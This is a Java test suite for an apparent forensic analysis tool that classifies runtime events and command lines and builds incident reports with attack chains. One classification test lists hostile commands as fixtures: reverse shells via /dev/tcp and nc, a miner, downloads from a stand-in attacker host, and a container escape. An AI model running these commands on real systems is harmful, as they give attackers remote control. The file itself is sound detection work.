package whorl.collector.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import whorl.collector.analysis.findings.Finding;
import whorl.collector.analysis.findings.Report;
import whorl.collector.analysis.findings.Step;
import whorl.collector.analysis.kinds.Command;
import whorl.collector.analysis.kinds.Severity;
import whorl.collector.analysis.kinds.Tactic;
import whorl.collector.analysis.kinds.Technique;
import whorl.collector.store.objects.StoredArtifact;
import whorl.collector.timeline.IndexStatus;
import whorl.evidence.Alert;
import whorl.evidence.ArtifactName;
import whorl.evidence.Digest;
import whorl.evidence.Id;
import whorl.evidence.Json;
import whorl.evidence.Level;
import whorl.evidence.Missing;

/** Processes, ordinary events, alerts, and the report as a whole. */
class AnalysesTest extends AnalysisFixture {
  @ParameterizedTest
  @CsvSource({
    "whorl.JndiLookup,name,java:comp/env/jdbc/shop",
    "whorl.JndiAnswer,factory,org.apache.naming.factory.ResourceFactory",
    "whorl.Deserialization,type,java.util.ArrayList",
    "whorl.XmlEntity,systemId,http://www.springframework.org/schema/beans.xsd",
    "whorl.Reflection,className,com.example.Order",
    "whorl.LoaderCreate,urls,file:/app/lib/a.jar",
    "whorl.Tamper,what,attach-listener-started",
    "whorl.LibraryLoad,path,/tmp/libnetty_transport.so",
    "whorl.SocketConnect,host,db.internal",
    "whorl.DnsLookup,host,api.partner.example",
    "jdk.SecurityPropertyModification,key,networkaddress.cache.ttl",
    "whorl.ProcessStart,command,uname -a",
    "whorl.FileDelete,path,/tmp/upload.tmp",
  })
  void ordinaryEvents_outsideRequests_areAtMostLow(String action, String field, String value)
      throws Exception {
    rows.event(action, field, value);

    assertThat(report().findings()).noneMatch(each -> each.severity().atLeast(Severity.MEDIUM));
    assertThat(report().chain()).isEmpty();
  }

  @Test
  void ordinaryRequest_thatReadsWritesAndConnects_isNotReported() throws Exception {
    rows.of("r1", "whorl.FileOpen", "path", "/data/invoice.txt", "access", "read");
    rows.of("r1", "whorl.FileOpen", "path", "/var/log/shop.log", "access", "append");
    rows.of("r1", "whorl.FileOpen", "path", "/app/keys/shop.p12", "access", "read");
    rows.of("r1", "whorl.SocketConnect", "host", "db", "address", "10.0.0.9", "port", 5432);
    rows.of("r1", "whorl.ClassDefine", "className", "A$Proxy", "origin", "proxy");
    rows.of("r1", "whorl.Deserialization", "type", "java.util.HashMap", "gadget", false);
    rows.request("r1", "GET", "/invoices", "id=7", ADDRESS, 200);

    assertThat(report().findings()).isEmpty();
  }

  @Test
  void processes_reportCommandLineRequestAndExitCode() throws Exception {
    addInjection("r1");
    rows.of("r1", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 77);
    rows.event("whorl.ProcessExit", "pid", 77, "exitCode", 3);
    addAnsweredRequest("r1");

    Finding finding = only("processes");

    assertThat(finding.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(finding.text())
        .contains("the request GET /products started /bin/sh -c id (pid 77, exit code 3)");
    assertThat(finding.techniques()).contains(Technique.UNIX_SHELL);
    assertThat(finding.rows()).hasSize(2);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' | REVERSE_SHELL",
        "nc -e /bin/sh 203.0.113.9 4444 | REVERSE_SHELL",
        "/tmp/xmrig -o stratum+tcp://pool:3333 | MINER",
        "/usr/bin/curl -s http://evil.example/x | DOWNLOAD",
        "sh -c 'wget http://evil.example/x' | DOWNLOAD",
        "/bin/sh -c id | SHELL",
        "env X=1 /bin/bash -c id | SHELL",
        "python3 -c print(1) | SHELL",
        "nsenter -t 1 -m | ESCAPE",
        "whoami | DISCOVERY",
        "/usr/bin/ffmpeg -i a.mov b.mp4 | OTHER",
      })
  void command_isClassifiedByItsLine(String line, Command kind) {
    assertThat(Command.of(line.strip())).isEqualTo(kind);
  }

  @Test
  void secrets_printedToTheConsole_areLow() throws Exception {
    rows.event("whorl.Console", "stream", "out", "line", "using password=hunter22 for db");
    rows.event("whorl.Console", "stream", "out", "line", "password=*** for db");

    Finding finding = only("secrets");
    assertThat(finding.severity()).isEqualTo(Severity.LOW);
    assertThat(finding.rows()).hasSize(1);
    assertThat(finding.text()).doesNotContain("hunter22");
  }

  @Test
  void alert_ofNoRequest_isAFindingOfItsLevel_lowOnesAreNot() throws Exception {
    rows.event("whorl.Alert", "id", "1", "title", "Price List Read", "level", "high");
    rows.event("alert.raised", "id", "1", "title", "Price List Read", "level", "high");
    rows.event("whorl.Alert", "id", "2", "title", "Log Removed", "level", "low");

    Finding finding = only("alert");
    assertThat(finding.severity()).isEqualTo(Severity.HIGH);
    assertThat(finding.title()).isEqualTo("Alert: Price List Read");
    assertThat(finding.rows()).hasSize(1);
  }

  @Test
  void alert_ofARequestThatNothingExplains_makesItSuspect() throws Exception {
    rows.alert("r1", "Price List Read", "high");
    rows.of("r1", "whorl.FileOpen", "path", "/data/prices", "access", "read");
    rows.request("r1", "GET", "/prices", "", ADDRESS, 200);

    assertThat(only("way-in").title()).isEqualTo("A request raised an alert: GET /prices");
    assertThat(only("way-in").severity()).isEqualTo(Severity.HIGH);
    assertThat(only("files-read").text()).contains("/data/prices");
  }

  @Test
  void notSeen_encryptedMissingAndDamaged_areNamed() throws Exception {
    rows.event("whorl.Console", "line", "hello");
    IndexStatus index =
        new IndexStatus(
            1,
            IndexStatus.State.READY,
            1,
            1,
            null,
            null,
            List.of(new IndexStatus.Source("recording.jfr", 0, "chunk 2 is cut off")));

    Report report =
        Evidences.report(
            rows,
            Evidences.of(
                Rows.EVIDENCE,
                new Id("agent-00000001"),
                "age1xyz",
                List.of(new Missing("heap", "it would take too long"))),
            index);

    assertThat(Rows.of(report, "not-seen").get(0).text())
        .contains("encrypted to age1xyz", "heap: it would take too long", "recording.jfr: chunk 2");
    assertThat(report.notExamined()).hasSize(3);
  }

  /** Anyone with an agent's token can add such an artifact to evidence that is not sealed yet. */
  @Test
  void notSeen_artifactThatNoAgentSigned_isNamed() throws Exception {
    rows.event("whorl.Console", "line", "hello");
    StoredArtifact signed =
        StoredArtifact.arrived(new ArtifactName("events.ndjson"), 1, Digest.of(new byte[1]), "a/b");
    StoredArtifact added =
        StoredArtifact.arrived(new ArtifactName("console.log"), 2, Digest.of(new byte[2]), "a/b")
            .unlisted(true);
    StoredArtifact history =
        StoredArtifact.arrived(
                new ArtifactName("earlier-1/custody.ndjson"), 3, Digest.of(new byte[3]), "a/b")
            .unlisted(true);

    Report report =
        Evidences.report(
            rows,
            Evidences.of(Rows.EVIDENCE).with(List.of(signed, added, history)),
            Evidences.READY);

    assertThat(Rows.of(report, "not-seen"))
        .singleElement()
        .satisfies(
            finding ->
                assertThat(finding.text())
                    .contains("No signed manifest lists console.log: anyone"));
  }

  @Test
  void summary_encryptedEvidence_beginsWithWhatWasNotExamined_andNeverSoundsInnocent()
      throws Exception {
    rows.event("whorl.Console", "line", "hello");
    Report report =
        Evidences.report(
            rows,
            Evidences.of(Rows.EVIDENCE, new Id("agent-00000001"), "age1xyz", List.of()),
            Evidences.READY);

    assertThat(report.summary())
        .startsWith("Nothing in the artifacts was examined: all are encrypted to age1xyz.")
        .contains("cannot be said from here", "This evidence of shop")
        .doesNotContain("Nothing in it looks", "Nothing was found", "nothing that was tampered");
    assertThat(report.notExamined()).hasSize(1).first().asString().contains("age1xyz");
  }

  @Test
  void summary_partThatIsMissing_comesFirst_andTheRestIsCalledTheRest() throws Exception {
    rows.event("whorl.Console", "line", "hello");

    Report report =
        Evidences.report(
            rows,
            Evidences.of(
                Rows.EVIDENCE,
                new Id("agent-00000001"),
                null,
                List.of(new Missing("heap", "it would take too long"))),
            Evidences.READY);

    assertThat(report.summary())
        .startsWith("Not examined: heap: it would take too long. This evidence of shop")
        .contains("Nothing in the rest looks like an attack", "In the rest nothing was found")
        .doesNotContain("Nothing in it", "Nothing was found that");
  }

  /** What the agent would have sent next may show the attack. */
  @Test
  void summary_partialEvidence_neverSoundsInnocent() throws Exception {
    rows.event("whorl.Console", "line", "hello");

    Report report =
        Evidences.report(
            rows, Evidences.partial("the agent is gone: 1 artifact had come"), Evidences.READY);

    assertThat(report.notExamined())
        .containsExactly(
            "what is not here: the agent is gone: 1 artifact had come",
            "recording.jfr.part: the rest of it did not arrive");
    assertThat(report.summary())
        .startsWith("Not examined: what is not here: the agent is gone")
        .contains("kept in part at", "Nothing in the rest looks like an attack")
        .doesNotContain("sealed at", "Nothing in it", "Nothing was found that");
  }

  /** Two clocks in one sentence would make the alert later than its evidence. */
  @Test
  void summary_saysWhenTheAlertWas_byTheCollectorsClock() throws Exception {
    rows.event("whorl.Console", "line", "hello");
    Instant tomorrow = Evidences.SEALED.plus(Duration.ofDays(1)).minusSeconds(5);
    Alert alert =
        new Alert(
            new Id("alert-0001"),
            "whorl",
            tomorrow,
            "rule-1",
            Level.HIGH,
            "Shell Started",
            null,
            List.of(),
            Map.of(),
            null,
            List.of());
    IndexStatus aDayAhead =
        new IndexStatus(
            IndexStatus.VERSION, IndexStatus.State.READY, 1, 1, -86_400_000L, null, List.of());

    Report report = Evidences.report(rows, Evidences.of(Rows.EVIDENCE, alert), aDayAhead);

    assertThat(report.summary())
        .contains(
            "captured because at 2026-11-25 09:35:55.000 UTC the rule raised the alert",
            "sealed at 2026-11-25 09:36:00.000 UTC");
  }

  @Test
  void chain_isInTheOrderOfTime_andNamesEachRowOnce() throws Exception {
    addInjection("r1");
    rows.of("r1", "whorl.ClassDefine", "className", "a.P", "origin", "lookup", "sha256", HASH);
    rows.of("r1", "whorl.FileOpen", "path", "/etc/cron.d/x", "access", "write", "created", true);
    rows.of("r1", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
    addAnsweredRequest("r1");

    List<Step> chain = report().chain();

    assertThat(chain)
        .extracting(Step::tactic)
        .containsExactly(
            Tactic.INITIAL_ACCESS,
            Tactic.EXECUTION,
            Tactic.DEFENSE_EVASION,
            Tactic.COMMAND_AND_CONTROL,
            Tactic.EXECUTION);
    assertThat(chain).isSortedAccordingTo(java.util.Comparator.comparing(Step::time));
    assertThat(chain).extracting(Step::row).doesNotHaveDuplicates();
  }

  @Test
  void json_hasTheFieldsOfTheApi_andIsReadBack() throws Exception {
    addInjection("r1");
    rows.of("r1", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
    addAnsweredRequest("r1");
    Report report = report();

    var json = Json.LENIENT.readTree(Json.bytes(report));

    assertThat(json.fieldNames())
        .toIterable()
        .containsExactly("evidence", "notExamined", "summary", "findings", "chain", "scope");
    var finding = json.path("findings").path(0);
    assertThat(finding.fieldNames())
        .toIterable()
        .containsExactly(
            "id",
            "analysis",
            "severity",
            "title",
            "text",
            "techniques",
            "tactics",
            "from",
            "to",
            "rows",
            "subjects");
    assertThat(finding.path("severity").asText()).isEqualTo("critical");
    assertThat(finding.path("techniques").path(0).path("id").asText()).startsWith("T1");
    assertThat(json.path("chain").path(0).fieldNames())
        .toIterable()
        .containsExactly("time", "what", "row", "tactic");
    assertThat(Json.MAPPER.readValue(Json.bytes(report), Report.class)).isEqualTo(report);
  }
}
